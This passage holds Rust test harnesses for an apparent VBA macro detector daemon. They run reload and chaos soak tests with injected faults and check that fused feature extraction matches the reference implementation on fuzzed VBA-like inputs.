    let tag = format!("\"{key}\":");
    let at = line
        .find(&tag)
        .unwrap_or_else(|| panic!("no {key} in {line}"));
    line[at + tag.len()..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap()
}

fn field_str(line: &str, key: &str) -> String {
    let tag = format!("\"{key}\":\"");
    let at = line
        .find(&tag)
        .unwrap_or_else(|| panic!("no {key} in {line}"));
    line[at + tag.len()..]
        .chars()
        .take_while(|&c| c != '"')
        .collect()
}

/// One scan client: hammers the daemon until the reload churn ends,
/// checking correlation ids and the per-connection generation invariants.
#[allow(clippy::too_many_arguments)]
fn client_load(
    sock: &Path,
    tally: &Tally,
    doc: &Path,
    junk: &Path,
    hex: &str,
    done: &AtomicBool,
    max_seen: &AtomicU64,
    id: usize,
) {
    let mut c = Client::connect(sock);
    let mut last_generation = 0u64;
    let mut n = 0u64;
    while !done.load(Ordering::Relaxed) {
        let request = match n % 5 {
            0 => format!(
                "{{\"op\":\"scan\",\"path\":\"{}\",\"id\":\"c{id}-{n}\"}}",
                doc.display()
            ),
            1 => format!(
                "{{\"op\":\"scan\",\"path\":\"{}\",\"id\":\"c{id}-{n}\"}}",
                junk.display()
            ),
            2 => format!("{{\"op\":\"scan\",\"bytes_hex\":\"{hex}\",\"id\":\"c{id}-{n}\"}}"),
            3 => format!("scan {}", doc.display()),
            _ => "model".to_string(),
        };
        let reply = c.roundtrip(tally, &request);
        if request.starts_with('{') {
            let tag = format!("\"id\":\"c{id}-{n}\"");
            assert!(
                reply.contains(&tag),
                "response lost its correlation id: sent {request}, got {reply}"
            );
        }
        // Every response — scan or model — is stamped with the generation
        // it was served under; admission pinning makes that stamp
        // monotone per connection.
        let generation = field_u64(&reply, "generation");
        assert!(generation >= 1, "generation 0 in {reply}");
        assert!(
            generation >= last_generation,
            "client {id} saw the generation go backwards: \
             {last_generation} then {generation} in {reply}"
        );
        last_generation = generation;
        if reply.contains("\"op\":\"scan\"") {
            assert!(reply.contains("\"ok\":true"), "scan rejected: {reply}");
            tally.ok_scan.fetch_add(1, Ordering::Relaxed);
        } else {
            assert!(reply.contains("\"op\":\"model\""), "{reply}");
            tally.other_ok.fetch_add(1, Ordering::Relaxed);
        }
        n += 1;
    }
    max_seen.fetch_max(last_generation, Ordering::Relaxed);
}

/// The operator: drives reloads until `target` of them have succeeded,
/// rotating two good models and a garbage file, with the
/// `serve::reload-corrupt` faultpoint corrupting a slice of the good
/// loads from inside the daemon.
fn reload_churn(sock: &Path, tally: &Tally, good: [&Path; 2], garbage: &Path, target: u64) -> u64 {
    let mut c = Client::connect(sock);
    let mut last_generation = 1u64;
    let mut attempts = 0u64;
    while tally.reload_ok.load(Ordering::Relaxed) < target {
        assert!(
            attempts < target * 10,
            "{attempts} reload attempts produced only {} successes",
            tally.reload_ok.load(Ordering::Relaxed)
        );
        let path = if attempts % 5 == 4 {
            garbage
        } else {
            good[(attempts % 2) as usize]
        };
        let reply = c.roundtrip(tally, &format!("reload {}", path.display()));
        if reply.contains("\"ok\":true") {
            assert!(
                path != garbage,
                "the garbage model loaded successfully: {reply}"
            );
            let generation = field_u64(&reply, "generation");
            assert_eq!(
                generation,
                last_generation + 1,
                "reloads are serialized on one connection; generations \
                 must step by one: {reply}"
            );
            last_generation = generation;
            tally.reload_ok.fetch_add(1, Ordering::Relaxed);
        } else {
            assert!(
                reply.contains("\"error\":\"reload-failed\""),
                "a failed reload must be typed: {reply}"
            );
            tally.reload_failed.fetch_add(1, Ordering::Relaxed);
        }
        attempts += 1;
        // A breath between swaps so scans actually land on each
        // generation instead of the churn monopolizing the lock.
        std::thread::sleep(Duration::from_millis(5));
    }
    last_generation
}

fn count_orphan_workers() -> usize {
    let out = Command::new("ps")
        .args(["-eo", "args"])
        .output()
        .expect("run ps");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.contains("__worker"))
        .count()
}

fn cache_counts(metrics_line: &str) -> (u64, u64) {
    let hits = metrics_line
        .find("\"cache.hits\"")
        .map(|at| field_u64(&metrics_line[at..], "total"))
        .unwrap_or(0);
    let misses = metrics_line
        .find("\"cache.misses\"")
        .map(|at| field_u64(&metrics_line[at..], "total"))
        .unwrap_or(0);
    (hits, misses)
}

fn main() {
    let mut args = std::env::args().skip(1);
    let vbadet_bin = args
        .next()
        .expect("usage: reload_soak <vbadet-binary> <successful-reloads>");
    let target: u64 = args
        .next()
        .expect("usage: reload_soak <vbadet-binary> <successful-reloads>")
        .parse()
        .expect("reload count must be a number");

    let dir = std::env::temp_dir().join(format!("vbadet-reload-soak-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    // Two distinct tiny models to alternate between, and one file that is
    // not a model at all.
    eprintln!("reload_soak: training two throwaway models…");
    let spec = CorpusSpec::paper().scaled(0.002);
    let model_a = dir.join("model-a.txt");
    std::fs::write(
        &model_a,
        Detector::train_on_corpus(&DetectorConfig::default(), &spec).save(),
    )
    .unwrap();
    let seeded = |seed| DetectorConfig {
        seed,
        ..DetectorConfig::default()
    };
    let model_b = dir.join("model-b.txt");
    std::fs::write(
        &model_b,
        Detector::train_on_corpus(&seeded(99), &spec).save(),
    )
    .unwrap();
    // A third model the churn never touches: the cache-invalidation probe
    // needs a fingerprint no generation has inserted under yet — after
    // one A-B-A cycle every document is warm under *both* churn
    // fingerprints, so reloading either would legitimately hit.
    let model_c = dir.join("model-c.txt");
    std::fs::write(
        &model_c,
        Detector::train_on_corpus(&seeded(7), &spec).save(),
    )
    .unwrap();
    let garbage = dir.join("garbage.model");
    std::fs::write(&garbage, "landed mid-rollout: not a model\n").unwrap();

    let mut b = VbaProjectBuilder::new("Soak");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    let doc_bytes = b.build().unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, &doc_bytes).unwrap();
    let junk = dir.join("junk.txt");
    std::fs::write(&junk, b"not a document, never parses").unwrap();
    let hex: String = doc_bytes.iter().map(|b| format!("{b:02x}")).collect();

    let sock = dir.join("serve.sock");
    let metrics_path = dir.join("metrics.json");
    let log_path = dir.join("daemon.log");

    // `serve::reload-corrupt` fires inside `try_reload` only: one in four
    // model loads — good file or not — fails as if the bytes on disk were
    // torn, exactly the mid-rollout corruption the typed `reload-failed`
    // path exists for. Scans never touch the faultpoint.
    let mut daemon = Command::new(&vbadet_bin)
        .args([
            "serve",
            "--socket",
            sock.to_str().unwrap(),
            "--model",
            model_a.to_str().unwrap(),
            "--jobs",
            "2",
            "--metrics-json",
            metrics_path.to_str().unwrap(),
        ])
        .env("VBADET_FAULTPOINTS", "serve::reload-corrupt=25%return@1")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log_path).unwrap())
        .spawn()
        .expect("spawn vbadet serve");

    let bind_deadline = Instant::now() + Duration::from_secs(30);
    while !sock.exists() {
        assert!(
            Instant::now() < bind_deadline,
            "daemon never bound its socket"
        );
        if let Some(status) = daemon.try_wait().unwrap() {
            panic!(
                "daemon exited before binding: {status}\n{}",
                std::fs::read_to_string(&log_path).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }

    // Before any churn: the startup model is generation 1.
    let tally = Tally::default();
    {
        let mut c = Client::connect(&sock);
        let first = c.roundtrip(&tally, "model");
        assert_eq!(field_u64(&first, "generation"), 1, "{first}");
        tally.other_ok.fetch_add(1, Ordering::Relaxed);
    }

    // Phase 1: concurrent scans while the operator thread churns reloads.
    eprintln!(
        "reload_soak: {CLIENTS} clients under {target} hot-reloads against {}",
        sock.display()
    );
    let done = AtomicBool::new(false);
    let max_seen = AtomicU64::new(0);
    let mut final_generation = 0u64;
    std::thread::scope(|s| {
        for id in 0..CLIENTS {
            let (tally, sock, doc, junk, hex, done, max_seen) =
                (&tally, &sock, &doc, &junk, &hex, &done, &max_seen);
            s.spawn(move || client_load(sock, tally, doc, junk, hex, done, max_seen, id));
        }
        final_generation = reload_churn(&sock, &tally, [&model_a, &model_b], &garbage, target);
        done.store(true, Ordering::Relaxed);
    });

    // Phase 2: the cache-invalidation probe, on a quiet daemon. Warm the
    // cache under the final generation, reload once more, and prove the
    // warm entry is a clean miss for the new fingerprint.
    let mut c = Client::connect(&sock);
    let line = format!("scan {}", doc.display());
    for _ in 0..2 {
        let reply = c.roundtrip(&tally, &line);
        assert!(reply.contains("\"op\":\"scan\""), "{reply}");
        tally.ok_scan.fetch_add(1, Ordering::Relaxed);
    }
    let (_, misses_before) = cache_counts(&c.roundtrip(&tally, "metrics"));
    tally.other_ok.fetch_add(1, Ordering::Relaxed);
    // The probe swaps in model C — a fingerprint no generation has ever
    // inserted cache entries under. The corrupt-load faultpoint is still
    // armed at 25%, so retry until one reload lands.
    let serving = c.roundtrip(&tally, "model");
    tally.other_ok.fetch_add(1, Ordering::Relaxed);
    let mut probe_generation = final_generation;
    let mut probe_fingerprint = String::new();
    while probe_generation == final_generation {
        let reply = c.roundtrip(&tally, &format!("reload {}", model_c.display()));
        if reply.contains("\"ok\":true") {
            probe_generation = field_u64(&reply, "generation");
            probe_fingerprint = field_str(&reply, "fingerprint");
            tally.reload_ok.fetch_add(1, Ordering::Relaxed);
        } else {
            tally.reload_failed.fetch_add(1, Ordering::Relaxed);
        }
    }
    assert_ne!(
        probe_fingerprint,
        field_str(&serving, "fingerprint"),
        "model C must fingerprint apart from the serving model"
    );
    let warm = c.roundtrip(&tally, &line);
    assert_eq!(field_u64(&warm, "generation"), probe_generation, "{warm}");
    tally.ok_scan.fetch_add(1, Ordering::Relaxed);
    let (_, misses_after) = cache_counts(&c.roundtrip(&tally, "metrics"));
    tally.other_ok.fetch_add(1, Ordering::Relaxed);
    assert!(
        misses_after > misses_before,
        "a warm document must be a cache miss after a reload \
         ({misses_before} misses before, {misses_after} after)"
    );
    drop(c);

    // Phase 3: SIGTERM drain.
    let pid = daemon.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success(),
        "kill -TERM failed"
    );
    let drain_deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Some(status) = daemon.try_wait().unwrap() {
            break status;
        }
        assert!(
            Instant::now() < drain_deadline,
            "daemon did not drain within 20s of SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(50));
    };

    // --- Assertions ---------------------------------------------------
    let log = std::fs::read_to_string(&log_path).unwrap_or_default();
    assert_eq!(
        status.code(),
        Some(3),
        "SIGTERM drain must exit 3, got {status}\n{log}"
    );

    let sent = tally.sent.load(Ordering::Relaxed);
    let ok_scan = tally.ok_scan.load(Ordering::Relaxed);
    let other_ok = tally.other_ok.load(Ordering::Relaxed);
    let reload_ok = tally.reload_ok.load(Ordering::Relaxed);
    let reload_failed = tally.reload_failed.load(Ordering::Relaxed);
    eprintln!(
        "reload_soak: {sent} requests -> {ok_scan} scans answered, {reload_ok} reloads, \
         {reload_failed} rejected reloads, {other_ok} model/metrics"
    );
    assert_eq!(
        sent,
        ok_scan + other_ok + reload_ok + reload_failed,
        "every request classified exactly once"
    );
    assert!(reload_ok > target, "churn target plus the cache probe");
    assert!(
        reload_failed > 0,
        "the garbage file and the corrupt-load faultpoint never fired"
    );

    // Invariant 1: zero dropped responses — the daemon's own accounting
    // agrees with the clients'.
    let drained_line = log
        .lines()
        .find(|l| l.starts_with("drained:"))
        .unwrap_or_else(|| panic!("no drain summary in the daemon log:\n{log}"));
    let expect = format!("drained: {ok_scan} accepted, 0 shed, {sent} responses");
    assert_eq!(
        drained_line, expect,
        "daemon accounting disagrees with the clients'"
    );

    // Invariant 3: generation conservation. The churn stepped one
    // generation per success from 1, the probe added one more, and no
    // client ever saw a generation past the final one.
    assert_eq!(final_generation, 1 + (reload_ok - 1));
    assert_eq!(probe_generation, 1 + reload_ok);
    let max_seen = max_seen.load(Ordering::Relaxed);
    assert!(
        max_seen <= probe_generation,
        "a client saw generation {max_seen}, past the final {probe_generation}"
    );

    // Invariant 5: the final metrics dump agrees with the tallies.
    let metrics = ScanMetrics::from_json(&std::fs::read_to_string(&metrics_path).unwrap())
        .expect("final --metrics-json must parse");
    assert_eq!(metrics.histograms["reload.success"].total, reload_ok);
    assert_eq!(metrics.histograms["reload.failed"].total, reload_failed);
    assert_eq!(metrics.histograms["serve.accepted"].total, ok_scan);
    assert_eq!(metrics.histograms["serve.drains"].count, 1);

    let orphans = count_orphan_workers();
    assert_eq!(orphans, 0, "found {orphans} orphaned __worker processes");

    let _ = std::fs::remove_dir_all(&dir);
    println!(
        "reload_soak PASS: {sent} requests, {ok_scan} scanned, {reload_ok} hot-reloads \
         ({reload_failed} rejected typed), final generation {probe_generation}, \
         drain exit 3, 0 orphans"
    );
}
