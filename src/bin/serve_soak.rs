//! Chaos soak for `vbadet serve`: a real daemon under concurrent client
//! load with fault-injected worker deaths, aborts and stalls.
//!
//! ```text
//! serve_soak <path-to-vbadet-binary> <seconds>
//! ```
//!
//! The `vbadet` binary must be built with `--features faultpoints`. The
//! harness spawns the daemon on a Unix socket with a hostile
//! `VBADET_FAULTPOINTS` environment — a deterministic window of injected
//! systemic worker deaths (opens the circuit breaker), per-worker aborts
//! inside the OLE parser (crash-respawn churn in the isolate pool), and a
//! stall on every scan (keeps the one-deep admission queue saturated so
//! requests get shed) — then hammers it from six concurrent clients.
//!
//! Asserted invariants, the service contract of DESIGN.md §11:
//!
//! 1. **Exactly one terminal response per request line** — the daemon's
//!    own response counter must equal the number of request lines every
//!    client sent, shed and rejected requests included.
//! 2. **Typed shedding** — queue overflow surfaces as `overloaded`
//!    responses, and the daemon's shed count matches the clients' count.
//! 3. **Breaker opened AND recovered** — the injected death window must
//!    open the breaker at least once, and `health` must report it closed
//!    again once the window passes.
//! 4. **Graceful SIGTERM drain** — exit code 3, a parseable final
//!    metrics dump, and zero orphaned `__worker` processes.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use vbadet::{Detector, DetectorConfig, ScanMetrics};
use vbadet_corpus::CorpusSpec;
use vbadet_ovba::VbaProjectBuilder;

const CLIENTS: usize = 6;

/// Per-category response tallies, shared across client threads.
#[derive(Default)]
struct Tally {
    sent: AtomicU64,
    ok_scan: AtomicU64,
    overloaded: AtomicU64,
    breaker_rejected: AtomicU64,
    bad_request: AtomicU64,
    other_ok: AtomicU64,
}

struct Client {
    writer: UnixStream,
    reader: BufReader<UnixStream>,
}

impl Client {
    fn connect(sock: &Path) -> Client {
        let writer = UnixStream::connect(sock).expect("connect to daemon socket");
        // Generous: a genuinely lost response hangs forever, so any finite
        // timeout catches it; 60 s keeps a loaded CI box from tripping it
        // on scheduling noise.
        writer
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        let reader = BufReader::new(writer.try_clone().unwrap());
        Client { writer, reader }
    }

    /// One request line, one response line: the protocol is strictly
    /// sequential per connection, so a missing response hangs the read
    /// and trips its timeout — that IS the lost-response detector.
    fn roundtrip(&mut self, tally: &Tally, line: &str) -> String {
        self.writer
            .write_all(format!("{line}\n").as_bytes())
            .unwrap();
        tally.sent.fetch_add(1, Ordering::Relaxed);
        let mut reply = String::new();
        let n = self
            .reader
            .read_line(&mut reply)
            .unwrap_or_else(|e| panic!("no response to {line:?} within the timeout: {e}"));
        assert!(
            n > 0,
            "daemon closed the connection instead of answering {line:?}"
        );
        reply.trim().to_string()
    }
}

fn classify(tally: &Tally, reply: &str) {
    if reply.contains("\"op\":\"scan\"") {
        tally.ok_scan.fetch_add(1, Ordering::Relaxed);
    } else if reply.contains("\"error\":\"overloaded\"") {
        tally.overloaded.fetch_add(1, Ordering::Relaxed);
    } else if reply.contains("\"error\":\"breaker-open\"") {
        tally.breaker_rejected.fetch_add(1, Ordering::Relaxed);
    } else if reply.contains("\"error\":\"bad-request\"") {
        tally.bad_request.fetch_add(1, Ordering::Relaxed);
    } else if reply.contains("\"ok\":true") {
        tally.other_ok.fetch_add(1, Ordering::Relaxed);
    } else {
        panic!("unclassifiable response: {reply}");
    }
}

fn client_load(
    sock: &Path,
    tally: &Tally,
    doc: &Path,
    junk: &Path,
    hex: &str,
    deadline: Instant,
    id: usize,
) {
    let mut c = Client::connect(sock);
    let mut n = 0u64;
    while Instant::now() < deadline {
        let request = match n % 7 {
            0 => format!(
                "{{\"op\":\"scan\",\"path\":\"{}\",\"id\":\"c{id}-{n}\"}}",
                doc.display()
            ),
            1 => format!(
                "{{\"op\":\"scan\",\"path\":\"{}\",\"id\":\"c{id}-{n}\"}}",
                junk.display()
            ),
            2 => format!("{{\"op\":\"scan\",\"bytes_hex\":\"{hex}\",\"id\":\"c{id}-{n}\"}}"),
            3 => "health".to_string(),
            4 => format!("scan {}", doc.display()),
            5 => "ready".to_string(),
            // Malformed on purpose: must get exactly one typed rejection.
            _ => format!("frobnicate c{id}-{n}"),
        };
        let reply = c.roundtrip(tally, &request);
        if request.starts_with('{') {
            let tag = format!("\"id\":\"c{id}-{n}\"");
            assert!(
                reply.contains(&tag),
                "response lost its correlation id: sent {request}, got {reply}"
            );
        }
        classify(tally, &reply);
        n += 1;
    }
}

fn count_orphan_workers() -> usize {
    let out = Command::new("ps")
        .args(["-eo", "args"])
        .output()
        .expect("run ps");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.contains("__worker"))
        .count()
}

fn main() {
    let mut args = std::env::args().skip(1);
    let vbadet_bin = args
        .next()
        .expect("usage: serve_soak <vbadet-binary> <seconds>");
    let seconds: u64 = args
        .next()
        .expect("usage: serve_soak <vbadet-binary> <seconds>")
        .parse()
        .expect("seconds must be a number");

    let dir = std::env::temp_dir().join(format!("vbadet-serve-soak-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    // Train once here and ship the model file so the daemon starts fast.
    eprintln!("serve_soak: training throwaway model…");
    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    );
    let model = dir.join("model.txt");
    std::fs::write(&model, detector.save()).unwrap();

    let mut b = VbaProjectBuilder::new("Soak");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    let doc_bytes = b.build().unwrap();
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, &doc_bytes).unwrap();
    let junk = dir.join("junk.txt");
    std::fs::write(&junk, b"not a document, never parses").unwrap();
    let hex: String = doc_bytes.iter().map(|b| format!("{b:02x}")).collect();

    let sock = dir.join("serve.sock");
    let metrics_path = dir.join("metrics.json");
    let journal_path = dir.join("journal.jsonl");
    let log_path = dir.join("daemon.log");

    // The chaos recipe (all deterministic hit windows):
    // - `serve::inject-death` fires in the daemon on admitted scans 6-11:
    //   six systemic deaths in a row, enough to open the threshold-2
    //   breaker even if a straggler success from an earlier scan lands
    //   between two of them, and to fail the first probes before the
    //   window closes.
    // - `ole::parse=abort@4x2` rides into the isolate workers through the
    //   inherited environment: every worker process SIGABRTs on its 4th
    //   OLE parse, a steady crash-respawn churn the slots absorb.
    // - `scan::full-parse=sleep(20)` stalls every worker scan so six
    //   clients against a one-deep queue must overflow it.
    let daemon = Command::new(&vbadet_bin)
        .args([
            "serve",
            "--socket",
            sock.to_str().unwrap(),
            "--model",
            model.to_str().unwrap(),
            "--jobs",
            "2",
            "--queue",
            "1",
            "--breaker-threshold",
            "2",
            "--breaker-backoff-ms",
            "150",
            "--metrics-json",
            metrics_path.to_str().unwrap(),
            "--journal",
            journal_path.to_str().unwrap(),
        ])
        .env(
            "VBADET_FAULTPOINTS",
            "serve::inject-death=return@6x6;ole::parse=abort@4x2;scan::full-parse=sleep(20)",
        )
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log_path).unwrap())
        .spawn()
        .expect("spawn vbadet serve");
    let mut daemon = daemon;

    // Wait for the socket to come up.
    let bind_deadline = Instant::now() + Duration::from_secs(30);
    while !sock.exists() {
        assert!(
            Instant::now() < bind_deadline,
            "daemon never bound its socket"
        );
        if let Some(status) = daemon.try_wait().unwrap() {
            panic!(
                "daemon exited before binding: {status}\n{}",
                std::fs::read_to_string(&log_path).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }

    // Phase 1: concurrent hostile load.
    eprintln!(
        "serve_soak: {CLIENTS} clients for {seconds}s against {}",
        sock.display()
    );
    let tally = Tally::default();
    let deadline = Instant::now() + Duration::from_secs(seconds);
    std::thread::scope(|s| {
        for id in 0..CLIENTS {
            let (tally, sock, doc, junk, hex) = (&tally, &sock, &doc, &junk, &hex);
            s.spawn(move || client_load(sock, tally, doc, junk, hex, deadline, id));
        }
    });

    // Phase 2: the injection window is exhausted; drive probe scans until
    // the breaker reports closed again.
    let mut recovered = false;
    let mut c = Client::connect(&sock);
    let recover_deadline = Instant::now() + Duration::from_secs(15);
    while Instant::now() < recover_deadline {
        let scan = c.roundtrip(&tally, &format!("scan {}", doc.display()));
        classify(&tally, &scan);
        let health = c.roundtrip(&tally, "health");
        classify(&tally, &health);
        if health.contains("\"breaker\":\"closed\"") {
            recovered = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let wire_metrics = c.roundtrip(&tally, "metrics");
    classify(&tally, &wire_metrics);
    drop(c);

    // Phase 3: SIGTERM drain.
    let pid = daemon.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success(),
        "kill -TERM failed"
    );
    let drain_deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Some(status) = daemon.try_wait().unwrap() {
            break status;
        }
        assert!(
            Instant::now() < drain_deadline,
            "daemon did not drain within 20s of SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(50));
    };

    // --- Assertions ---------------------------------------------------
    let log = std::fs::read_to_string(&log_path).unwrap_or_default();
    assert_eq!(
        status.code(),
        Some(3),
        "SIGTERM drain must exit 3, got {status}\n{log}"
    );

    let sent = tally.sent.load(Ordering::Relaxed);
    let ok_scan = tally.ok_scan.load(Ordering::Relaxed);
    let overloaded = tally.overloaded.load(Ordering::Relaxed);
    let breaker_rejected = tally.breaker_rejected.load(Ordering::Relaxed);
    let bad_request = tally.bad_request.load(Ordering::Relaxed);
    let other_ok = tally.other_ok.load(Ordering::Relaxed);
    eprintln!(
        "serve_soak: {sent} requests -> {ok_scan} scans answered, {overloaded} shed, \
         {breaker_rejected} breaker-rejected, {bad_request} bad-request, {other_ok} other"
    );
    assert_eq!(
        sent,
        ok_scan + overloaded + breaker_rejected + bad_request + other_ok,
        "every request classified exactly once"
    );

    // Invariant 1: the daemon wrote exactly one terminal response per
    // request line — its own counter agrees with what the clients sent.
    let drained_line = log
        .lines()
        .find(|l| l.starts_with("drained:"))
        .unwrap_or_else(|| panic!("no drain summary in the daemon log:\n{log}"));
    let expect = format!("drained: {ok_scan} accepted, {overloaded} shed, {sent} responses");
    assert_eq!(
        drained_line, expect,
        "daemon accounting disagrees with the clients'"
    );

    // Invariant 2: the queue really overflowed, and shedding was typed.
    assert!(
        overloaded > 0,
        "the soak never shed a request — no backpressure exercised"
    );

    // Invariant 3: the breaker opened under the injected deaths and is
    // closed again.
    assert!(
        recovered,
        "breaker never reported closed after the death window"
    );
    let metrics = ScanMetrics::from_json(&std::fs::read_to_string(&metrics_path).unwrap())
        .expect("final --metrics-json must parse");
    assert!(
        metrics.histograms["serve.breaker_opens"].count >= 1,
        "breaker never opened"
    );
    assert!(
        breaker_rejected > 0,
        "an open breaker must reject scans typed"
    );
    assert_eq!(metrics.histograms["serve.accepted"].total, ok_scan);
    assert_eq!(metrics.histograms["serve.shed"].total, overloaded);
    assert_eq!(metrics.histograms["serve.drains"].count, 1);
    // The wire-form metrics snapshot parses just like the file dump
    // (strip the envelope's own closing brace, nothing more).
    let wire_json = wire_metrics
        .split_once("\"metrics\":")
        .and_then(|(_, tail)| tail.strip_suffix('}'))
        .unwrap();
    assert!(
        ScanMetrics::from_json(wire_json).is_ok(),
        "wire metrics must parse"
    );

    // Invariant 4: zero orphaned workers after the drain.
    let orphans = count_orphan_workers();
    assert_eq!(orphans, 0, "found {orphans} orphaned __worker processes");

    // The journal audited every decided scan.
    let journal = std::fs::read_to_string(&journal_path).unwrap();
    assert!(
        journal
            .lines()
            .filter(|l| l.contains("\"event\":\"done\""))
            .count() as u64
            == ok_scan,
        "journal done-records must match answered scans"
    );

    let _ = std::fs::remove_dir_all(&dir);
    println!(
        "serve_soak PASS: {sent} requests, {ok_scan} scanned, {overloaded} shed, \
         breaker opened {} time(s) and recovered, drain exit 3, 0 orphans",
        metrics.histograms["serve.breaker_opens"].count
    );
}
