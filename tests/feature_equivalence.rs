//! Bit-equivalence proof for the allocation-free scoring hot path.
//!
//! The fused single-pass extractors ([`vbadet_features::FeatureScratch`])
//! and the span lexer must produce *bit-identical* `f64` vectors and
//! token streams to the historical multi-pass reference implementations
//! (kept behind the `reference` feature) — on the synthetic corpus, and
//! on hundreds of seeded hostile mutants designed to hit lexer edge
//! cases: unterminated strings and comments, line continuations, `Rem`
//! fused with digits, `&H` literals, non-ASCII identifiers, and CR/LF
//! soup. Likewise the flattened struct-of-arrays forest must reproduce
//! the per-node tree walk exactly, including on the committed fixture.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use vbadet_features::{reference, FeatureScratch, FeatureSet};

/// Base sources covering every token family the lexer knows: keywords,
/// identifiers (ASCII and not), numbers (`&H`, `&O`, exponents, type
/// suffixes), strings with `""` escapes, `'` and `Rem` comments, line
/// continuations, and mixed line endings.
const BASES: &[&str] = &[
    "Sub Alpha()\r\n    Dim x As Integer\r\n    x = Chr(65) & \"he\"\"llo\" + Mid(s, 1, 2)\r\n\
     \x20   ' a comment with words\r\n    Rem another one\r\nEnd Sub\r\n",
    "Function F(a, b)\r\n    F = a + b * &HFF - &O77 + 1.5E-3# \r\nEnd Function\r\n",
    "Attribute VB_Name = \"Module1\"\nPrivate Declare Function Beep Lib \"kernel32\" ()\n\
     Sub Go()\n    Call Helper(1, \"two\", 3.0)\nEnd Sub\n",
    "x = \"unterminated\r\ny = 'trailing comment no newline",
    "Sub S()\r\n    v = Array(1, _\r\n        2, _\r\n        3)\r\n    Exit Sub\r\nEnd Sub\r\n",
    "1Rem fused\r\ncaf\u{e9} = caf\u{c9} + \u{2603}\r\nIf x Then y = Asc(\"\u{e9}\") End If\r\n",
    "",
];

/// Snippets spliced into mutants to provoke state-machine boundaries.
const HOSTILE: &[&str] = &[
    "\"", "'", "\r", "\n", "\r\n", " _\r\n", "_", "Rem ", "rem", "&H", "&", "\"\"", "E+", "#",
    "Sub ", "End Sub", "Function", "Declare ", "Exit ", "(", ")", ",", "\t", "\u{0}", "\u{e9}",
    "\u{2028}", "0", ".5", "=",
];

fn mutate(rng: &mut StdRng) -> String {
    let mut s = String::from(*BASES.choose(rng).unwrap());
    for _ in 0..rng.gen_range(1..6) {
        // Any char boundary, including the very end.
        let boundaries: Vec<usize> = s.char_indices().map(|(i, _)| i).chain([s.len()]).collect();
        let at = *boundaries.choose(rng).unwrap();
        match rng.gen_range(0..4u32) {
            0 => s.insert_str(at, HOSTILE.choose(rng).unwrap()),
            1 => s.truncate(at),
            2 => {
                let other = *BASES.choose(rng).unwrap();
                let cut: Vec<usize> = other
                    .char_indices()
                    .map(|(i, _)| i)
                    .chain([other.len()])
                    .collect();
                let from = *cut.choose(rng).unwrap();
                s.insert_str(at, &other[from..]);
            }
            _ => {
                let tail: String = s[at..].chars().take(7).collect();
                s.insert_str(at, &tail);
            }
        }
    }
    s
}

fn assert_bit_identical(src: &str, scratch: &mut FeatureScratch) {
    let v_ref = reference::v_features(src);
    let v_fused = scratch.extract(FeatureSet::V, src).to_vec();
    for (i, (a, b)) in v_fused.iter().zip(v_ref.iter()).enumerate() {
        assert_eq!(
            a.to_bits(),
            b.to_bits(),
            "V{} diverged on {src:?}: fused {a} vs reference {b}",
            i + 1
        );
    }
    let j_ref = reference::j_features(src);
    let j_fused = scratch.extract(FeatureSet::J, src).to_vec();
    for (i, (a, b)) in j_fused.iter().zip(j_ref.iter()).enumerate() {
        assert_eq!(
            a.to_bits(),
            b.to_bits(),
            "J{} diverged on {src:?}: fused {a} vs reference {b}",
            i + 1
        );
    }
    // The owned token stream the compat layer exposes is also unchanged.
    assert_eq!(
        vbadet_vba::tokenize(src),
        vbadet_vba::reference_tokenize(src),
        "token stream diverged on {src:?}"
    );
}

#[test]
fn fused_extractors_match_reference_on_hostile_mutants() {
    let mut rng = StdRng::seed_from_u64(0xFEA7);
    let mut scratch = FeatureScratch::default();
    for base in BASES {
        assert_bit_identical(base, &mut scratch);
    }
    // One scratch across all mutants: proves buffer reuse cannot leak
    // state from one document into the next.
    for _ in 0..600 {
        let src = mutate(&mut rng);
        assert_bit_identical(&src, &mut scratch);
    }
}

#[test]
fn fused_extractors_match_reference_on_the_corpus() {
    let spec = vbadet_corpus::CorpusSpec::paper().scaled(0.05);
    let macros = vbadet_corpus::generate_macros(&spec);
    assert!(macros.len() > 100, "corpus draw too small to be probative");
    let mut scratch = FeatureScratch::default();
    for m in &macros {
        assert_bit_identical(&m.source, &mut scratch);
    }
}

#[test]
fn flattened_forest_matches_tree_walk_on_committed_fixture() {
    let text = include_str!("fixtures/rf_forest.txt");
    let rf = vbadet_ml::RandomForest::from_text(text).expect("fixture parses");
    let mut rng = StdRng::seed_from_u64(77);
    for case in 0..500 {
        let x: Vec<f64> = (0..2)
            .map(|_| match rng.gen_range(0..10u32) {
                0 => f64::NAN,
